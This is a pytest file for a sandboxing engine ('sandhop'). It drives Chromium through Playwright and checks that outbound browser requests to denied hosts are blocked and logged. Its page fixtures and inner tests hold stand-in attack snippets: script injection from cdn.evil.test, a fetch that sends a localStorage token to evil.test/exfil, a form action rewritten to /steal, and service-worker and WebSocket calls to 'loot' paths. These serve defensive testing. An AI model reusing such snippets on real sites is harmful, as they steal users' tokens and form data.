"""Browser tests under the engine: a real Chromium (Debian's) driven by Playwright in an inner
pytest session under `--sandhop-policy medium`, against a server on loopback in this process.

Test host names (`*.test`) reach the same loopback server through Chromium's host-resolver
rules, so "denied" means the engine stopped a request that would otherwise have arrived: the
server's log proves it did not. Skipped with the reason where Chromium or Playwright is missing
(.ci/run installs both).
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import json
import os
import subprocess
import sys
import textwrap
import threading
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from sandhop.enforcement.browser import find_chromium

pytestmark = pytest.mark.skipif(find_chromium() is None, reason="Chromium not installed (apt-get install chromium)")
pytest.importorskip("playwright", reason="Playwright not installed (pip install 'sandhop[browser]')")

PAGES = {
    "/": "<html><body><h1 id=t>home</h1><script>window.api = fetch('/api/ok').then(r => r.text())</script></body></html>",
    "/landing": "<html><body><h1 id=t>landing</h1></body></html>",
    "/popup": "<html><body><button id=open onclick=\"window.open('http://evil.test:{port}/popup-loot')\">open"
              "</button></body></html>",
    "/sw": "<html><body><script>window.reg = navigator.serviceWorker ? navigator.serviceWorker.register('/sw.js')"
           ".then(() => 'registered', e => 'refused') : Promise.resolve('no service workers');</script></body></html>",
    "/sw.js": "self.addEventListener('install', () => fetch('http://evil.test:{port}/sw-loot'));",
    "/ws": "<html><body><script>"
           "window.socket = (url) => new Promise(done => { const s = new WebSocket(url);"
           " s.onopen = () => { done('open'); s.close(); }; s.onerror = () => done('error');"
           " s.onclose = (e) => done('closed ' + e.code); });"
           "</script></body></html>",
    "/inject": "<html><body><form id=f action='/login' method=post><input name=u value=alice></form><script>"
               "localStorage.setItem('token', 'TOKEN-123');"
               "const s = document.createElement('script'); s.src = 'http://cdn.evil.test:{port}/x.js';"
               "document.body.appendChild(s);"
               "window.exfil = fetch('http://evil.test:{port}/exfil?t=' + localStorage.getItem('token'))"
               ".then(() => 'sent', () => 'blocked');"
               "</script></body></html>",
    "/api/ok": "ok",
}


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler)
        self.hits: list[tuple[str, str, str]] = []   # (method, host header, path)
        self.lock = threading.Lock()


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def _hit(self):
        with self.server.lock:
            self.server.hits.append((self.command, self.headers.get("Host", ""), self.path))

    def do_POST(self):
        self._hit()
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self._send(200, "posted", "text/plain")

    def do_GET(self):
        self._hit()
        path = self.path.split("?", 1)[0]
        port = self.server.server_address[1]
        if self.headers.get("Upgrade", "").lower() == "websocket":
            accept = base64.b64encode(hashlib.sha1((self.headers["Sec-WebSocket-Key"] +
                                                    "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest())
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            self.send_header("Sec-WebSocket-Accept", accept.decode())
            self.end_headers()
            self.wfile.flush()
            try:
                self.rfile.read(1)  # until the client goes away
            except OSError:
                pass
            self.close_connection = True
            return
        if path == "/redir-ok":
            return self._redirect(f"http://127.0.0.1:{port}/landing")
        if path == "/redir-out":
            return self._redirect("/redir-hop2")
        if path == "/redir-hop2":
            return self._redirect(f"http://evil.test:{port}/redirect-loot")
        if path in PAGES:
            body = PAGES[path].replace("{port}", str(port))
            kind = "text/javascript" if path.endswith(".js") else "text/html" if body.startswith("<") else "text/plain"
            return self._send(200, body, kind)
        self._send(404, "no", "text/plain")

    def _redirect(self, location: str):
        self.send_response(302)
        self.send_header("Location", location)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def _send(self, status: int, body: str, kind: str):
        data = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Access-Control-Allow-Origin", "*")  # the page fetches its API on another host
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


@pytest.fixture(scope="module")
def server():
    srv = Server()
    thread = threading.Thread(target=srv.serve_forever, daemon=True)
    thread.start()
    yield srv
    srv.shutdown()


INNER_CONFTEST = """
import pytest

@pytest.fixture(scope="session")
def sandhop_host_rules():
    return "MAP *.test 127.0.0.1"
"""

INNER = """
import os
import pytest

PORT = int(os.environ["BROWSER_TEST_PORT"])
BASE = f"http://127.0.0.1:{PORT}"


def test_loopback_app_and_its_fetch(sandhop_page):
    sandhop_page.goto(BASE + "/")
    assert sandhop_page.text_content("#t") == "home"
    assert sandhop_page.evaluate("window.api") == "ok"


def test_allowed_redirect_chain(sandhop_page):
    sandhop_page.goto(BASE + "/redir-ok")
    assert sandhop_page.text_content("#t") == "landing"


@pytest.mark.sandhop(allow=["browser.request api.shop.test:*"])
def test_granted_api_host(sandhop_page):
    sandhop_page.goto(BASE + "/landing")
    assert sandhop_page.evaluate(f"fetch('http://api.shop.test:{PORT}/api/ok').then(r => r.text())") == "ok"


def test_denied_host(sandhop_page):
    sandhop_page.goto(BASE + "/landing")
    assert sandhop_page.evaluate(f"fetch('http://evil.test:{PORT}/direct').then(() => 'sent', () => 'blocked')") == "blocked"


def test_redirect_chain_into_a_denied_host(sandhop_page):
    response = sandhop_page.goto(BASE + "/redir-out")
    assert response.status == 403  # the guard's proxy refused the last hop


def test_popup_first_request(sandhop_page):
    sandhop_page.goto(BASE + "/popup")
    with sandhop_page.expect_popup() as info:
        sandhop_page.click("#open")
    info.value.wait_for_load_state()


def test_service_worker_is_blocked(sandhop_page):
    sandhop_page.goto(BASE + "/sw")
    sandhop_page.evaluate("window.reg")
    sandhop_page.wait_for_timeout(200)
    assert sandhop_page.evaluate("navigator.serviceWorker.controller") is None


def test_websocket_to_loopback(sandhop_page):
    sandhop_page.goto(BASE + "/ws")
    assert sandhop_page.evaluate(f"window.socket('ws://127.0.0.1:{PORT}/ws-ok')") == "open"


def test_websocket_to_denied_host(sandhop_page):
    sandhop_page.goto(BASE + "/ws")
    assert sandhop_page.evaluate(f"window.socket('ws://evil.test:{PORT}/ws-loot')") in ("error", "closed 1008")


def test_injected_script_and_exfiltration(sandhop_page):
    sandhop_page.goto(BASE + "/inject")
    assert sandhop_page.evaluate("window.exfil") == "blocked"
    sandhop_page.evaluate("document.getElementById('f').action = 'http://evil.test:%d/steal'" % PORT)
    sandhop_page.wait_for_timeout(120)  # the observer reports in 50 ms batches
"""


@pytest.fixture(scope="module")
def inner(server, tmp_path_factory):
    """One inner session (Chromium starts once): outcomes, trace rows and audit decisions."""
    tmp = tmp_path_factory.mktemp("browser")
    suite = tmp / "suite"
    suite.mkdir()
    (suite / "conftest.py").write_text(INNER_CONFTEST)
    (suite / "test_inner.py").write_text(textwrap.dedent(INNER))
    log, rec, junit = tmp / "audit.jsonl", tmp / "trace", tmp / "junit.xml"
    env = {**os.environ, "BROWSER_TEST_PORT": str(server.server_address[1])}
    proc = subprocess.run([sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-q", "-rA",
                           "--sandhop-policy", "medium", "--sandhop-audit-log", str(log),
                           "--sandhop-record", str(rec), f"--junitxml={junit}"],
                          cwd=suite, env=env, capture_output=True, text=True, timeout=600)
    assert junit.exists(), proc.stdout[-3000:] + proc.stderr[-3000:]
    outcomes = {}
    for case in ET.parse(junit).getroot().iter("testcase"):
        failure = case.find("failure")
        if failure is None:
            failure = case.find("error")
        outcomes[case.get("name")] = (("passed", "") if failure is None
                                      else ("failed", failure.get("message", "") + "\n" + (failure.text or "")))
    from sandhop.datasets.traces import read_traces
    trace = read_traces(rec).to_pylist()
    decisions = [r for r in map(json.loads, log.read_text().splitlines()) if r.get("kind") == "decision"]
    return {"outcomes": outcomes, "trace": trace, "decisions": decisions, "log": proc.stdout}


def rows(inner, test: str, category: str = "browser.request") -> list[dict]:
    return [r for r in inner["trace"] if r["test_id"].endswith("::" + test) and r["category"] == category]


def paths(server) -> set[str]:
    return {p.split("?", 1)[0] for _, _, p in server.hits}


ALLOWED = ("test_loopback_app_and_its_fetch", "test_allowed_redirect_chain", "test_granted_api_host",
           "test_service_worker_is_blocked", "test_websocket_to_loopback")
DENIED = {  # inner test -> the request the engine must stop (never seen by the server)
    "test_denied_host": "/direct",
    "test_redirect_chain_into_a_denied_host": "/redirect-loot",
    "test_popup_first_request": "/popup-loot",
    "test_websocket_to_denied_host": "/ws-loot",
    "test_injected_script_and_exfiltration": "/exfil",
}


def test_allowed_requests_pass(inner, server):
    for name in ALLOWED:
        assert inner["outcomes"][name] == ("passed", ""), (name, inner["log"][-3000:])
    port = server.server_address[1]
    assert ("GET", f"api.shop.test:{port}", "/api/ok") in server.hits  # a granted host, mapped to loopback
    assert {"/", "/api/ok", "/redir-ok", "/landing", "/ws-ok"} <= paths(server)


def test_denied_requests_never_reach_the_server_and_fail_the_test(inner, server):
    port = server.server_address[1]
    for name, path in DENIED.items():
        status, message = inner["outcomes"][name]
        assert status == "failed" and "sandhop denied browser.request" in message, (name, message)
        assert path not in paths(server), name
        denied = [d for d in inner["decisions"] if d["test_id"].endswith("::" + name) and d["decision"] == "deny"]
        assert any(path in d["target"] and d["rule"] == "medium:default" for d in denied), (name, denied)
    assert not {"/x.js", "/sw.js", "/sw-loot", "/steal"} & paths(server)  # the service worker never even loads
    assert all(f":{port}" in d["target"] for d in inner["decisions"] if d["category"] == "browser.request")


def test_every_hop_of_a_redirect_chain_is_decided(inner, server):
    hops = [(r["target"], r["detail"]) for r in rows(inner, "test_redirect_chain_into_a_denied_host")]
    targets = [t for t, _ in hops]
    assert [t.split("/", 3)[-1] for t in targets[:3]] == ["redir-out", "redir-hop2", "redirect-loot"], hops
    assert hops[0][1] == "document navigation" and hops[1][1] == hops[2][1] == "redirect-hop"
    assert "evil.test" in targets[2]
    assert {"/redir-out", "/redir-hop2"} <= paths(server) and "/redirect-loot" not in paths(server)
    ok = [r["target"] for r in rows(inner, "test_allowed_redirect_chain")]
    assert ok[-1].endswith("/landing") and any(t.endswith("/redir-ok") for t in ok)


def test_popup_and_websocket_requests_are_decided(inner):
    popup = rows(inner, "test_popup_first_request")
    assert any(r["target"].endswith("/popup-loot") and r["detail"].startswith("document") for r in popup)
    ws = rows(inner, "test_websocket_to_denied_host")
    assert any(r["op"] == "WEBSOCKET" and r["target"].startswith("ws://evil.test") for r in ws)


def test_dom_mutations_are_observed_and_the_exfiltration_denied(inner, server):
    port = server.server_address[1]
    dom = {(r["op"], r["target"]) for r in rows(inner, "test_injected_script_and_exfiltration", "dom.mutation")}
    assert ("script.external", f"http://cdn.evil.test:{port}/x.js") in dom, dom
    assert ("form.action", f"http://evil.test:{port}/steal") in dom, dom
    assert all(r["target_class"] == "dom" for r in rows(inner, "test_injected_script_and_exfiltration", "dom.mutation"))
    requests = rows(inner, "test_injected_script_and_exfiltration")
    assert any(r["target"].startswith(f"http://cdn.evil.test:{port}/x.js") for r in requests)
    assert not {"/x.js", "/exfil"} & paths(server)


def test_browser_events_are_in_the_same_trace_as_python_events(inner):
    tests = {r["test_id"] for r in inner["trace"] if r["category"] == "browser.request"}
    python = {r["test_id"] for r in inner["trace"] if r["category"] in ("proc.spawn", "code.import", "fs.read")}
    assert tests & python  # the first test starts Playwright's driver (a process, imports) and browses
    assert len({r["run_id"] for r in inner["trace"]}) == 1


def test_the_web_shop_suite_passes_under_medium(tmp_path):
    """The bundled browser suite is an ordinary suite: medium (with its marker's API grant) must
    not break it, and its browser events land in its trace."""
    from sandhop.datasets.traces import read_traces
    shop = Path(__file__).resolve().parents[1] / "datasets" / "webshop"
    proc = subprocess.run([sys.executable, "-m", "pytest", "tests", "-p", "no:cacheprovider", "-q",
                           "--sandhop-policy", "medium", "--sandhop-record", str(tmp_path / "t")],
                          cwd=shop, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0 and "9 passed" in proc.stdout, proc.stdout[-3000:]
    assert "denied 0 operations" in proc.stdout
    rows = read_traces(tmp_path / "t").select(["category", "target"]).to_pylist()
    assert any(r["category"] == "browser.request" and "api.shop.test" in r["target"] for r in rows)
    assert any(r["category"] == "dom.mutation" for r in rows)


def test_a_redirect_rule_fulfils_from_a_local_stub(server, tmp_path):
    """`redirect browser.request HOST stub`: the page gets an empty answer from the guard, the
    host never sees the request."""
    suite = tmp_path / "suite"
    suite.mkdir()
    (suite / "ads.policy").write_text("extends medium\nredirect browser.request ads.test:* stub\n")
    (suite / "conftest.py").write_text(INNER_CONFTEST)
    (suite / "test_ads.py").write_text(textwrap.dedent("""
        import os
        PORT = int(os.environ["BROWSER_TEST_PORT"])

        def test_ad_is_stubbed(sandhop_page):
            sandhop_page.goto(f"http://127.0.0.1:{PORT}/landing")
            got = sandhop_page.evaluate(
                f"fetch('http://ads.test:{PORT}/banner.js').then(r => r.status + ':' + r.headers.get('content-length'))")
            assert got.startswith("204")
    """))
    env = {**os.environ, "BROWSER_TEST_PORT": str(server.server_address[1])}
    proc = subprocess.run([sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-q", "-rA",
                           "--sandhop-policy", str(suite / "ads.policy")], cwd=suite, env=env,
                          capture_output=True, text=True, timeout=600)
    assert "1 passed" in proc.stdout, proc.stdout[-3000:]
    assert "redirect browser.request http://ads.test" in proc.stdout
    assert "/banner.js" not in paths(server)


def test_audit_mode_lets_requests_through_and_records_them(server, tmp_path):
    suite = tmp_path / "suite"
    suite.mkdir()
    (suite / "conftest.py").write_text(INNER_CONFTEST)
    (suite / "test_audit.py").write_text(textwrap.dedent("""
        import os
        PORT = int(os.environ["BROWSER_TEST_PORT"])

        def test_foreign_fetch(sandhop_page):
            sandhop_page.goto(f"http://127.0.0.1:{PORT}/landing")
            assert sandhop_page.evaluate(f"fetch('http://evil.test:{PORT}/audited').then(r => r.status)") == 404
    """))
    log = tmp_path / "audit.jsonl"
    env = {**os.environ, "BROWSER_TEST_PORT": str(server.server_address[1])}
    proc = subprocess.run([sys.executable, "-m", "pytest", "-p", "no:cacheprovider", "-q", "--sandhop-policy",
                           "medium", "--sandhop-mode", "audit", "--sandhop-audit-log", str(log)],
                          cwd=suite, env=env, capture_output=True, text=True, timeout=600)
    assert "1 passed" in proc.stdout, proc.stdout[-3000:]
    assert "/audited" in paths(server)
    records = [r for r in map(json.loads, log.read_text().splitlines()) if r.get("kind") == "decision"]
    assert any(r["target"].endswith("/audited") and r["decision"] == "deny" and r["mode"] == "audit"
               for r in records)
